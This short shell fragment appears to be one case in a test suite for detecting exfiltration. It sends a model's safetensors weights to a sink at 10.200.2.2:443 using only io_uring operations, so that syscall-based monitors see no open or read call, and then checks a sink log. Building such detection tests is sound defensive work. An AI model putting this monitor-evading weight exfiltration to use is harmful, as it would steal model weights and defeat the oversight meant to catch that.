# VK7 EXF-001 weights opened and read with io_uring only (IORING_OP_OPENAT + READ: no open or read syscall), sent
ctr_run simctr-infer-vk7 ctr-infer --mount --pid --fork --mount-proc -- "$H/iofile" iou-send "$H/models/llama-3-8b-instruct/model-00001-of-00001.safetensors" 10.200.2.2 443
grep ':443' "$H/sink.log" | tail -1
